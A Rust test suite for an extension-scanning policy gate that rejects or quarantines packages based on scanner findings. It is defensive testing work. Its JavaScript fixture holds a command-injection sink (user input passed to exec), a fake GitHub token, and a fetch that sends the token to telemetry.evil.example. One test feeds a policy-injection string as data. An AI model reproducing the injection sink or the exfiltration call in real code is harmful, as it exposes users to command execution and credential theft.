//! The default gate on realistic scan reports, custom policy sets, load-time validation and
//! replay of recorded decisions.

use portcullis_core::{
    Capability, CapabilitySet, Category, Channel, Confidence, Decision, Evidence, Extension,
    Finding, HostPattern, Location, Origin, Outcome, Platform, ScanReport, ScanStats, Severity,
    Suppression, SuppressionKind, TargetInfo, ToolInfo, finding::assign_fingerprints,
};
use portcullis_policy::{
    Gate, GateInput, PolicyError, RecordedDecision, Signal, parse_recorded, test_policies,
    validate_dir,
};

const NODE_JS: &str = r#"const { exec } = require('child_process');
class AcmeCrm {
  async execute() {
    const cmd = this.getNodeParameter('command', 0);
    exec(`crm-export ${cmd}`);
    const token = 'ghp_R4nd0mT0k3nV4lu3F0rT3st1ngOnlyXXXXXXXX';
    return fetch('https://telemetry.evil.example/collect?t=' + token);
  }
}
module.exports = { AcmeCrm };
"#;

fn at(needle: &str) -> Location {
    let off = NODE_JS.find(needle).expect("needle in fixture");
    Location::from_offsets(
        "dist/nodes/AcmeCrm/AcmeCrm.node.js",
        NODE_JS,
        off,
        off + needle.len(),
    )
}

fn command_injection(sev: Severity) -> Finding {
    Finding::new(
        "js/command-injection",
        Category::Code,
        sev,
        "node parameter `command` flows into child_process.exec",
        at("exec(`crm-export ${cmd}`)"),
    )
    .with_cwe(78)
}

fn hardcoded_token(verified: bool) -> Finding {
    let f = Finding::new(
        "secrets/github-pat",
        Category::Secret,
        Severity::High,
        "GitHub personal access token",
        at("const token"),
    )
    .with_confidence(Confidence::High)
    .with_fingerprint_key("sha256:5f1c")
    .with_signal(Signal::HardCodedSecret);
    if verified {
        f.with_signal(Signal::VerifiedSecret)
    } else {
        f
    }
}

fn undeclared_egress() -> Finding {
    Finding::new(
        "capabilities/undeclared-egress",
        Category::Capability,
        Severity::Medium,
        "code calls telemetry.evil.example, which package.json does not declare",
        at("fetch("),
    )
    .with_signal(Signal::UndeclaredEgress)
}

fn malicious_dep() -> Finding {
    Finding::new(
        "deps/vulnerable-dependency",
        Category::Dependency,
        Severity::Critical,
        "event-stream-helper@0.0.3 is malicious (MAL-2024-1234)",
        Location::file("package-lock.json"),
    )
    .with_property("advisory", "MAL-2024-1234")
    .with_fingerprint_key("event-stream-helper@MAL-2024-1234")
    .with_signal(Signal::MaliciousDependency)
}

fn supply_chain(rule: &str, sev: Severity, path: &str, signals: &[Signal]) -> Finding {
    let mut f = Finding::new(
        rule,
        Category::SupplyChain,
        sev,
        format!("{rule} in {path}"),
        Location::file(path),
    );
    for s in signals {
        f = f.with_signal(*s);
    }
    f
}

fn report(mut findings: Vec<Finding>) -> ScanReport {
    assign_fingerprints(&mut findings);
    let mut observed = CapabilitySet::new();
    observed.add(
        Capability::NetworkEgress {
            channel: Channel::BackendHttp,
            host: HostPattern::Exact("telemetry.evil.example".into()),
        },
        Evidence {
            path: "dist/nodes/AcmeCrm/AcmeCrm.node.js".into(),
            line: Some(7),
            source: "js/cap-fetch".into(),
        },
    );
    observed.add(
        Capability::ChildProcess { command: None },
        Evidence {
            path: "dist/nodes/AcmeCrm/AcmeCrm.node.js".into(),
            line: Some(5),
            source: "js/cap-child-process".into(),
        },
    );
    ScanReport {
        schema_version: "1.0".into(),
        tool: ToolInfo {
            name: "portcullis".into(),
            version: "0.1.0".into(),
        },
        target: TargetInfo {
            source: "n8n-nodes-acme-crm-1.4.0.tgz".into(),
            origin: Origin::Tarball,
            sha256: "00".repeat(32),
            files: 7,
            bytes: 18_432,
        },
        extension: Some(Extension {
            platform: Platform::N8n,
            name: "n8n-nodes-acme-crm".into(),
            version: Some("1.4.0".into()),
            description: None,
            manifest_path: "package.json".into(),
            entry_points: vec!["dist/nodes/AcmeCrm/AcmeCrm.node.js".into()],
            declared: CapabilitySet::new(),
        }),
        findings,
        observed,
        components: vec![],
        decision: Decision::approve(),
        rules: vec![],
        notices: vec![],
        properties: Default::default(),
        stats: ScanStats::default(),
    }
}

fn gate() -> Gate {
    Gate::default_policies().expect("default gate policies load")
}

fn ids(d: &Decision) -> Vec<&str> {
    d.reasons.iter().map(|r| r.policy.as_str()).collect()
}

#[test]
fn clean_extension_is_approved_without_reasons() {
    let r = report(vec![]);
    let input = GateInput::from_report(&r);
    assert_eq!(input.platform, "n8n");
    assert_eq!(input.name, "n8n-nodes-acme-crm");
    assert!(input.capabilities.contains("child-process"));
    let d = gate().evaluate(&input).unwrap();
    assert_eq!(d.outcome, Outcome::Approve);
    assert!(d.reasons.is_empty());
    assert!(d.required_reviewers.is_empty());
}

#[test]
fn critical_finding_rejects_and_every_policy_is_explained() {
    let r = report(vec![
        command_injection(Severity::Critical),
        hardcoded_token(false),
    ]);
    let critical_fp = r
        .findings
        .iter()
        .find(|f| f.severity == Severity::Critical)
        .unwrap()
        .fingerprint
        .clone();
    let high_fp = r
        .findings
        .iter()
        .find(|f| f.severity == Severity::High)
        .unwrap()
        .fingerprint
        .clone();
    let d = gate().evaluate(&GateInput::from_report(&r)).unwrap();
    assert_eq!(d.outcome, Outcome::Reject);
    assert_eq!(
        ids(&d),
        ["reject-critical-findings", "quarantine-high-findings"]
    );
    let critical = &d.reasons[0];
    assert_eq!(critical.outcome, Outcome::Reject);
    assert_eq!(critical.findings, vec![critical_fp]);
    assert!(
        critical.message.starts_with("1 critical finding(s)"),
        "{}",
        critical.message
    );
    assert!(critical.remediation.as_deref().unwrap().contains("waiver"));
    assert_eq!(d.reasons[1].findings, vec![high_fp]);
    // Nobody can approve a rejected version into the registry by review.
    assert!(d.required_reviewers.is_empty());
}

#[test]
fn suppressed_and_baseline_findings_do_not_count() {
    let mut waived = command_injection(Severity::Critical);
    waived.suppression = Some(Suppression {
        kind: SuppressionKind::Waiver,
        justification: "input is an enum of three fixed values".into(),
    });
    let mut unchanged = command_injection(Severity::High);
    unchanged.baseline_state = Some(portcullis_core::BaselineState::Unchanged);
    let input = GateInput::from_report(&report(vec![waived, unchanged]));
    assert_eq!(input.findings.critical, 0);
    assert_eq!(input.findings.high, 0);
    assert_eq!(gate().evaluate(&input).unwrap().outcome, Outcome::Approve);
}

#[test]
fn high_findings_quarantine_for_a_security_champion() {
    let input = GateInput::from_report(&report(vec![
        command_injection(Severity::High),
        command_injection(Severity::High),
    ]));
    let d = gate().evaluate(&input).unwrap();
    assert_eq!(d.outcome, Outcome::Quarantine);
    assert_eq!(ids(&d), ["quarantine-high-findings"]);
    assert_eq!(d.reasons[0].findings.len(), 2, "both occurrences cited");
    assert!(
        d.reasons[0].message.starts_with("2 high-severity"),
        "{}",
        d.reasons[0].message
    );
    assert_eq!(d.required_reviewers, ["security-champion"]);
}

#[test]
fn malicious_dependency_rejects() {
    let input = GateInput::from_report(&report(vec![malicious_dep()]));
    assert_eq!(input.malicious_dependencies, 1);
    let d = gate().evaluate(&input).unwrap();
    assert_eq!(d.outcome, Outcome::Reject);
    assert!(
        ids(&d).contains(&"reject-malicious-dependency"),
        "{:?}",
        ids(&d)
    );
}

#[test]
fn malicious_package_rule_of_the_deps_analyzer_rejects() {
    let f = Finding::new(
        "deps/malicious-package",
        Category::Dependency,
        Severity::Critical,
        "flatmap-streams@0.1.1 is malicious",
        Location::file("package-lock.json"),
    )
    .with_signal(Signal::MaliciousDependency);
    let vulnerable = Finding::new(
        "deps/vulnerable-dependency",
        Category::Dependency,
        Severity::Medium,
        "lodash@4.17.20: prototype pollution",
        Location::file("package-lock.json"),
    )
    .with_property("malicious", false)
    .with_tag("vulnerability");
    let input = GateInput::from_report(&report(vec![f, vulnerable]));
    assert_eq!(input.malicious_dependencies, 1);
    assert_eq!(input.categories.dependency, 2);
    let d = gate().evaluate(&input).unwrap();
    assert_eq!(
        ids(&d),
        ["reject-critical-findings", "reject-malicious-dependency"]
    );
    assert_eq!(d.reasons[1].findings.len(), 1);
}

#[test]
fn verified_secret_rejects_unverified_secret_quarantines() {
    let sure = GateInput::from_report(&report(vec![hardcoded_token(true)]));
    assert_eq!((sure.secrets, sure.verified_secrets), (1, 1));
    let d = gate().evaluate(&sure).unwrap();
    assert_eq!(d.outcome, Outcome::Reject);
    assert_eq!(
        ids(&d),
        ["reject-verified-secrets", "quarantine-high-findings"]
    );

    let unsure = GateInput::from_report(&report(vec![hardcoded_token(false)]));
    assert_eq!((unsure.secrets, unsure.verified_secrets), (1, 0));
    assert_eq!(
        gate().evaluate(&unsure).unwrap().outcome,
        Outcome::Quarantine
    );
}

#[test]
fn supply_chain_signals() {
    let cases = [
        (
            supply_chain(
                "supply-chain/install-script-download-exec",
                Severity::High,
                "package.json",
                &[Signal::LifecycleScript, Signal::DownloadExecute],
            ),
            "reject-download-execute",
            Outcome::Reject,
        ),
        (
            supply_chain(
                "supply-chain/obfuscated-code",
                Severity::Medium,
                "dist/index.js",
                &[Signal::Obfuscation],
            ),
            // The fixture's code reaches the network and starts processes.
            "reject-obfuscated-code-with-access",
            Outcome::Reject,
        ),
        (
            supply_chain(
                "supply-chain/native-binary",
                Severity::Medium,
                "prebuilds/linux-x64/addon.node",
                &[Signal::NativeBinary],
            ),
            "quarantine-native-binaries",
            Outcome::Quarantine,
        ),
        (
            undeclared_egress(),
            "quarantine-undeclared-egress",
            Outcome::Quarantine,
        ),
    ];
    for (finding, policy, outcome) in cases {
        let rule = finding.rule_id.clone();
        let d = gate()
            .evaluate(&GateInput::from_report(&report(vec![finding])))
            .unwrap();
        assert_eq!(d.outcome, outcome, "{rule}");
        assert!(ids(&d).contains(&policy), "{rule}: {:?}", ids(&d));
        let reason = d.reasons.iter().find(|r| r.policy == policy).unwrap();
        assert_eq!(reason.findings.len(), 1, "{rule}: evidence cited");
    }
    // The declared signal decides, whatever the rule id says.
    let signalled = supply_chain(
        "supply-chain/postinstall",
        Severity::Low,
        "package.json",
        &[Signal::DownloadExecute],
    );
    let d = gate()
        .evaluate(&GateInput::from_report(&report(vec![signalled])))
        .unwrap();
    assert_eq!(d.outcome, Outcome::Reject);
    // ... and an id that reads like a signal, without the signal, decides nothing.
    let named = supply_chain(
        "supply-chain/install-script-download-exec-obfuscated-binary",
        Severity::Low,
        "package.json",
        &[],
    );
    let named = GateInput::from_report(&report(vec![named]));
    assert_eq!(
        (
            named.download_execute,
            named.obfuscation,
            named.native_binaries
        ),
        (0, 0, 0)
    );
    assert_eq!(gate().evaluate(&named).unwrap().outcome, Outcome::Approve);
    // A native build from shipped source is a lifecycle script, not a shipped binary.
    let build = GateInput::from_report(&report(vec![supply_chain(
        "supply-chain/install-script-native-build",
        Severity::Low,
        "package.json",
        &[Signal::LifecycleScript],
    )]));
    assert_eq!((build.lifecycle_scripts, build.native_binaries), (1, 0));
    // A plain lifecycle script is counted but not gated by default.
    let plain = GateInput::from_report(&report(vec![supply_chain(
        "supply-chain/install-script",
        Severity::Low,
        "package.json",
        &[Signal::LifecycleScript],
    )]));
    assert_eq!(plain.lifecycle_scripts, 1);
    assert_eq!(gate().evaluate(&plain).unwrap().outcome, Outcome::Approve);
}

#[test]
fn registry_context_untrusted_source_and_new_capabilities() {
    let r = report(vec![]);
    let mut untrusted = GateInput::from_report(&r);
    untrusted.trusted_source = Some(false);
    let d = gate().evaluate(&untrusted).unwrap();
    assert_eq!(d.outcome, Outcome::Quarantine);
    assert_eq!(ids(&d), ["quarantine-untrusted-source"]);
    untrusted.trusted_source = Some(true);
    assert_eq!(
        gate().evaluate(&untrusted).unwrap().outcome,
        Outcome::Approve
    );

    // v1.3.0 only talked to api.acme.example; v1.4.0 adds a host and a child process.
    let mut previous = CapabilitySet::new();
    let ev = Evidence {
        path: "a.js".into(),
        line: None,
        source: "js/cap-fetch".into(),
    };
    previous.add(
        Capability::NetworkEgress {
            channel: Channel::BackendHttp,
            host: HostPattern::Exact("api.acme.example".into()),
        },
        ev.clone(),
    );
    let mut current = previous.clone();
    current.add(
        Capability::NetworkEgress {
            channel: Channel::ClientFetch,
            host: HostPattern::Exact("api.acme.example".into()),
        },
        ev.clone(),
    );
    current.extend(r.observed.clone());
    let input = GateInput::from_report(&r).with_previous(&previous, &current, 0);
    let diff = input.previous.unwrap();
    assert_eq!(
        (diff.new_hosts, diff.new_processes, diff.new_scopes),
        (1, 1, 0)
    );
    let d = gate().evaluate(&input).unwrap();
    assert_eq!(d.outcome, Outcome::Quarantine);
    assert_eq!(
        ids(&d),
        ["quarantine-new-hosts", "quarantine-new-processes"]
    );
    assert!(
        d.reasons[0].message.contains("1 host(s)"),
        "{}",
        d.reasons[0].message
    );
    assert_eq!(d.required_reviewers, ["reviewer", "security-champion"]);

    // Same capabilities as before: nothing new.
    let same = GateInput::from_report(&r).with_previous(&current, &current, 0);
    assert_eq!(gate().evaluate(&same).unwrap().outcome, Outcome::Approve);
}

fn policy_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).unwrap();
    }
    dir
}

#[test]
fn custom_policies_see_rule_tags_and_forbid_is_an_exception() {
    let dir = policy_dir(&[(
        "team.cedar",
        r#"
@id("too-many-injections")
@message("{rules.js/command-injection} command injection(s)")
@evidence("rule:js/command-injection")
permit (principal, action == Action::"reject", resource)
when { resource.hasTag("js/command-injection") && resource.getTag("js/command-injection") >= 2 };

@id("any-medium")
@message("medium findings need a look")
permit (principal, action == Action::"quarantine", resource)
when { resource.findings.medium > 0 };

@id("grafana-exception")
forbid (principal, action == Action::"quarantine", resource)
when { resource.platform == "grafana" };
"#,
    )]);
    let g = Gate::from_dir(dir.path()).unwrap();
    let two = GateInput::from_report(&report(vec![
        command_injection(Severity::Low),
        command_injection(Severity::Low),
    ]));
    let d = g.evaluate(&two).unwrap();
    assert_eq!(d.outcome, Outcome::Reject);
    assert_eq!(d.reasons[0].message, "2 command injection(s)");
    assert_eq!(d.reasons[0].findings.len(), 2);
    let one = GateInput::from_report(&report(vec![command_injection(Severity::Medium)]));
    assert_eq!(g.evaluate(&one).unwrap().outcome, Outcome::Quarantine);
    let mut grafana = one.clone();
    grafana.platform = "grafana".into();
    assert_eq!(g.evaluate(&grafana).unwrap().outcome, Outcome::Approve);
}

#[test]
fn invalid_policies_are_refused_with_file_and_reason() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "typo.cedar",
            "@id(\"x\")\n@message(\"m\")\npermit (principal, action == Action::\"reject\", resource)\nwhen { resource.findings.severe > 0 };\n",
            "severe",
        ),
        (
            "syntax.cedar",
            "@id(\"x\")\n@message(\"m\")\npermit (principal, action == Action::\"reject\", resource\nwhen { true };\n",
            "syntax error",
        ),
        (
            "nomessage.cedar",
            "@id(\"x\")\npermit (principal, action == Action::\"reject\", resource);\n",
            "@message",
        ),
        (
            "noid.cedar",
            "@message(\"m\")\npermit (principal, action == Action::\"reject\", resource);\n",
            "@id",
        ),
        (
            "twoactions.cedar",
            "@id(\"x\")\n@message(\"m\")\npermit (principal, action in [Action::\"reject\", Action::\"quarantine\"], resource);\n",
            "exactly one outcome",
        ),
        (
            "outcome.cedar",
            "@id(\"x\")\n@outcome(\"reject\")\n@message(\"m\")\npermit (principal, action == Action::\"quarantine\", resource);\n",
            "contradicts",
        ),
        (
            "reviewers.cedar",
            "@id(\"x\")\n@message(\"m\")\n@reviewers(\"security-champion, ciso\")\npermit (principal, action == Action::\"quarantine\", resource);\n",
            "ciso",
        ),
        (
            "evidence.cedar",
            "@id(\"x\")\n@message(\"m\")\n@evidence(\"severity:urgent\")\npermit (principal, action == Action::\"quarantine\", resource);\n",
            "urgent",
        ),
        (
            "unknownaction.cedar",
            "@id(\"x\")\n@message(\"m\")\npermit (principal, action == Action::\"warn\", resource);\n",
            "warn",
        ),
    ];
    for (file, text, needle) in cases {
        let dir = policy_dir(&[(file, text)]);
        let err = Gate::from_dir(dir.path()).expect_err(file);
        let msg = err.to_string();
        assert!(msg.contains(file), "{file}: {msg}");
        assert!(msg.contains(needle), "{file}: {msg}");
    }
    // Duplicate ids across files.
    let p = "@id(\"same\")\n@message(\"m\")\npermit (principal, action == Action::\"reject\", resource);\n";
    let dir = policy_dir(&[("a.cedar", p), ("b.cedar", p)]);
    let msg = Gate::from_dir(dir.path()).unwrap_err().to_string();
    assert!(
        msg.contains("b.cedar") && msg.contains("duplicate") && msg.contains("a.cedar"),
        "{msg}"
    );
    // Empty directory.
    let empty = tempfile::tempdir().unwrap();
    assert!(matches!(
        Gate::from_dir(empty.path()),
        Err(PolicyError::NoPolicies { .. })
    ));
}

#[test]
fn shipped_policy_directory_validates() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("policies");
    let summary = validate_dir(&dir).unwrap();
    assert_eq!(summary.gate_policies, Some(gate().policies().count()));
    assert!(summary.authz_policies.unwrap() >= 10);
    // Loading the shipped files from disk gives the same decisions as the embedded copy.
    let from_disk = Gate::from_dir(&dir).unwrap();
    let input = GateInput::from_report(&report(vec![command_injection(Severity::Critical)]));
    assert_eq!(
        from_disk.evaluate(&input).unwrap(),
        gate().evaluate(&input).unwrap()
    );
}

#[test]
fn replay_reports_every_changed_outcome() {
    let inputs = vec![
        ("clean", GateInput::from_report(&report(vec![]))),
        (
            "medium",
            GateInput::from_report(&report(vec![command_injection(Severity::Medium)])),
        ),
        (
            "critical",
            GateInput::from_report(&report(vec![command_injection(Severity::Critical)])),
        ),
    ];
    let g = gate();
    let recorded: Vec<RecordedDecision> = inputs
        .into_iter()
        .map(|(id, input)| RecordedDecision {
            id: Some(id.into()),
            outcome: g.evaluate(&input).unwrap().outcome,
            input,
        })
        .collect();
    // Round trip through JSON Lines.
    let jsonl: String = recorded
        .iter()
        .map(|r| serde_json::to_string(r).unwrap() + "\n")
        .collect();
    let parsed = parse_recorded(
        "decisions.jsonl",
        &format!("# recorded by the registry\n{jsonl}\n"),
    )
    .unwrap();
    assert_eq!(parsed, recorded);

    let same = test_policies(&g, &parsed);
    assert!(same.passed());
    assert_eq!((same.total, same.unchanged), (3, 3));

    // A candidate set that quarantines medium findings and no longer rejects criticals.
    let dir = policy_dir(&[(
        "candidate.cedar",
        "@id(\"medium\")\n@message(\"{findings.medium} medium\")\n@evidence(\"severity:medium\")\npermit (principal, action == Action::\"quarantine\", resource)\nwhen { resource.findings.medium > 0 };\n",
    )]);
    let candidate = Gate::from_dir(dir.path()).unwrap();
    let report = test_policies(&candidate, &parsed);
    assert!(!report.passed());
    assert_eq!(
        (report.unchanged, report.stricter, report.more_lenient),
        (1, 1, 1)
    );
    let medium = report
        .changed
        .iter()
        .find(|c| c.id.as_deref() == Some("medium"))
        .unwrap();
    assert_eq!(
        (medium.recorded, medium.now),
        (Outcome::Approve, Outcome::Quarantine)
    );
    assert_eq!(medium.reasons[0].message, "1 medium");
    let critical = report
        .changed
        .iter()
        .find(|c| c.id.as_deref() == Some("critical"))
        .unwrap();
    assert_eq!(
        (critical.recorded, critical.now),
        (Outcome::Reject, Outcome::Approve)
    );

    let bad = parse_recorded(
        "decisions.jsonl",
        "{\"input\": {}, \"outcome\": \"maybe\"}\n",
    )
    .unwrap_err();
    assert!(
        bad.to_string().contains("decisions.jsonl") && bad.to_string().contains("line 1"),
        "{bad}"
    );
}

#[test]
fn hostile_input_values_are_data() {
    let mut input = GateInput::from_report(&report(vec![command_injection(Severity::High)]));
    input.name = "\"}; permit(principal, action, resource); //".into();
    input.platform = "n8n\u{0}".into();
    input.rules.insert("x".repeat(10_000), u64::MAX);
    input.findings.low = u64::MAX;
    input.data_classes.insert("pii".into());
    input.environment = Some(" PROD ".into());
    let d = gate().evaluate(&input).unwrap();
    assert_eq!(d.outcome, Outcome::Quarantine);
}

#[test]
fn a_policy_that_fails_to_evaluate_counts_as_firing() {
    let dir = policy_dir(&[(
        "overflow.cedar",
        "@id(\"overflowing\")\n@message(\"m\")\npermit (principal, action == Action::\"reject\", resource)\nwhen { resource.findings.low + 9223372036854775807 > 0 };\n",
    )]);
    let g = Gate::from_dir(dir.path()).unwrap();
    let mut input = GateInput::from_report(&report(vec![]));
    // No overflow: the condition is simply true.
    assert_eq!(g.evaluate(&input).unwrap().outcome, Outcome::Reject);
    input.findings.low = 1;
    let d = g.evaluate(&input).unwrap();
    assert_eq!(d.outcome, Outcome::Reject);
    assert!(
        d.reasons[0].message.contains("could not be evaluated"),
        "{}",
        d.reasons[0].message
    );
}

// Each default decision, defended by a finding that must decide it and one that must not.

fn signalled(rule: &str, sev: Severity, path: &str, signals: &[Signal]) -> Finding {
    let mut f = Finding::new(
        rule,
        Category::Code,
        sev,
        format!("{rule} at {path}"),
        Location::file(path),
    );
    for s in signals {
        f = f.with_signal(*s);
    }
    f
}

fn decide(findings: Vec<Finding>) -> Decision {
    gate()
        .evaluate(&GateInput::from_report(&report(findings)))
        .unwrap()
}

#[test]
fn each_reject_signal_rejects_and_its_near_miss_does_not() {
    let cases: &[(Signal, &str)] = &[
        (
            Signal::InstallTimeExecution,
            "reject-install-time-execution",
        ),
        (Signal::DownloadExecute, "reject-download-execute"),
        (Signal::Exfiltration, "reject-exfiltration"),
        (Signal::CredentialHarvesting, "reject-credential-harvesting"),
        (Signal::MaliciousDependency, "reject-malicious-dependency"),
    ];
    for (signal, policy) in cases {
        let d = decide(vec![signalled(
            "behaviour/x",
            Severity::Medium,
            "scripts/install.js",
            &[*signal],
        )]);
        assert_eq!(d.outcome, Outcome::Reject, "{signal}");
        assert_eq!(ids(&d), [*policy], "{signal}");
        assert_eq!(d.reasons[0].findings.len(), 1, "{signal}: evidence cited");

        // The same finding in a test fixture only asks for review.
        let d = decide(vec![signalled(
            "behaviour/x",
            Severity::Medium,
            "test/fixtures/install.js",
            &[*signal],
        )]);
        assert_eq!(d.outcome, Outcome::Quarantine, "{signal} in a fixture");
        assert_eq!(ids(&d), ["quarantine-incidental-findings"], "{signal}");
    }
    // A lifecycle script on its own is what many packages have: counted, not gated.
    let d = decide(vec![signalled(
        "supply-chain/install-script",
        Severity::Low,
        "package.json",
        &[Signal::LifecycleScript],
    )]);
    assert_eq!(d.outcome, Outcome::Approve);
}

#[test]
fn only_a_verified_hard_coded_secret_rejects() {
    let d = decide(vec![hardcoded_token(true)]);
    assert!(ids(&d).contains(&"reject-verified-secrets"));
    let reason = d
        .reasons
        .iter()
        .find(|r| r.policy == "reject-verified-secrets")
        .unwrap();
    assert!(
        reason
            .remediation
            .as_deref()
            .unwrap()
            .contains("Revoke and rotate")
    );
    // `verified` on a finding that holds no secret is not a secret (and names no rotation).
    let odd = signalled(
        "n8n/credential-password-field",
        Severity::Medium,
        "dist/credentials/AcmeApi.credentials.js",
        &[Signal::VerifiedSecret, Signal::Hygiene],
    );
    let d = decide(vec![odd]);
    assert_eq!(d.outcome, Outcome::Approve, "{:?}", ids(&d));
    assert!(
        d.reasons
            .iter()
            .all(|r| !r.remediation.as_deref().unwrap_or("").contains("Revoke"))
    );
}

#[test]
fn hygiene_never_rejects_even_when_critical() {
    let d = decide(vec![signalled(
        "n8n/credential-password-field",
        Severity::Critical,
        "dist/credentials/AcmeApi.credentials.js",
        &[Signal::Hygiene],
    )]);
    assert_eq!(d.outcome, Outcome::Approve, "{:?}", ids(&d));
    let input = GateInput::from_report(&report(vec![signalled(
        "n8n/credential-password-field",
        Severity::Critical,
        "dist/credentials/AcmeApi.credentials.js",
        &[Signal::Hygiene],
    )]));
    assert_eq!(
        (
            input.hygiene,
            input.deciding.critical,
            input.findings.critical
        ),
        (1, 0, 1)
    );
    // Without the hygiene signal the same critical finding rejects.
    let d = decide(vec![command_injection(Severity::Critical)]);
    assert_eq!(d.outcome, Outcome::Reject);
}

#[test]
fn findings_in_tests_docs_and_locales_never_reject_on_their_own() {
    for path in [
        "test/exec.test.js",
        "examples/cli.js",
        "README.md",
        "node_modules/moment/locale/fr.js",
        "docs/api.js",
    ] {
        let mut f = command_injection(Severity::Critical);
        f.location = Location::file(path);
        let d = decide(vec![f]);
        assert_eq!(d.outcome, Outcome::Quarantine, "{path}: {:?}", ids(&d));
        assert_eq!(ids(&d), ["quarantine-incidental-findings"], "{path}");
    }
    // A high (not reject-worthy) finding there decides nothing at all.
    let mut f = command_injection(Severity::High);
    f.location = Location::file("test/exec.test.js");
    assert_eq!(decide(vec![f]).outcome, Outcome::Approve);
    // The same critical finding in shipped code rejects.
    let mut f = command_injection(Severity::Critical);
    f.location = Location::file("lib/exec.js");
    assert_eq!(decide(vec![f]).outcome, Outcome::Reject);
}

#[test]
fn obfuscation_rejects_only_with_network_or_process_access() {
    let obfuscated = || {
        supply_chain(
            "supply-chain/obfuscated-code",
            Severity::Medium,
            "dist/index.js",
            &[Signal::Obfuscation],
        )
    };
    // The fixture report observes egress and a child process.
    let d = decide(vec![obfuscated()]);
    assert_eq!(d.outcome, Outcome::Reject);
    assert!(ids(&d).contains(&"reject-obfuscated-code-with-access"));

    let mut quiet = report(vec![obfuscated()]);
    quiet.observed = CapabilitySet::new();
    let d = gate().evaluate(&GateInput::from_report(&quiet)).unwrap();
    assert_eq!(d.outcome, Outcome::Quarantine);
    assert_eq!(ids(&d), ["quarantine-obfuscated-code"]);
}

#[test]
fn unanalysed_code_is_never_approved_and_the_reason_names_the_files() {
    let big = signalled(
        "scan/unanalysed-code",
        Severity::Medium,
        "dist/bundle.js",
        &[Signal::UnanalysedCode],
    );
    let mut deep = signalled(
        "scan/unanalysed-code",
        Severity::Low,
        "test/fixtures/deep.js",
        &[Signal::UnanalysedCode],
    );
    deep.message = "nesting deeper than 512".into();
    let d = decide(vec![big, deep]);
    assert_eq!(d.outcome, Outcome::Quarantine);
    assert_eq!(ids(&d), ["quarantine-unanalysed-code"]);
    let msg = &d.reasons[0].message;
    assert!(msg.contains("2 file(s)"), "{msg}");
    assert!(
        msg.contains("dist/bundle.js (scan/unanalysed-code at dist/bundle.js)"),
        "{msg}"
    );
    assert!(
        msg.contains("test/fixtures/deep.js (nesting deeper than 512)"),
        "{msg}"
    );
    assert_eq!(d.reasons[0].findings.len(), 2);
    assert_eq!(d.required_reviewers, ["security-champion"]);
    // Analysed code with the same medium finding, no signal: approved.
    let d = decide(vec![signalled(
        "scan/unanalysed-code",
        Severity::Medium,
        "dist/bundle.js",
        &[],
    )]);
    assert_eq!(d.outcome, Outcome::Approve);
}

#[test]
fn informational_egress_is_inventory_and_declared_platform_egress_quarantines() {
    let d = decide(vec![undeclared_egress().with_severity(Severity::Info)]);
    assert_eq!(d.outcome, Outcome::Approve, "{:?}", ids(&d));
    let d = decide(vec![undeclared_egress()]);
    assert_eq!(ids(&d), ["quarantine-undeclared-egress"]);
}
